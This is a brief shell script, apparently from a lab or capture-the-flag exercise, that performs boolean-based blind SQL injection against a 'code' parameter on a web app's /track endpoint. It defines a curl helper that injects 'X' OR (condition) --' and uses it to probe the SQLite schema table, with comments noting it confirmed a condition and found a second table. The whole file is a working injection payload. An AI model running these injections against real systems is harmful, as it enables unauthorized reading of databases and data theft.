# reaches: got a condition answered
# reaches: read the schema
#-- there is a second table; then it gets late
ask() { curl -s -G http://app:8080/track --data-urlencode "code=X' OR ($1) --"; }
ask 1=1
ask '(SELECT count(*) FROM sqlite_master WHERE name IS NOT NULL) > 1'
echo none
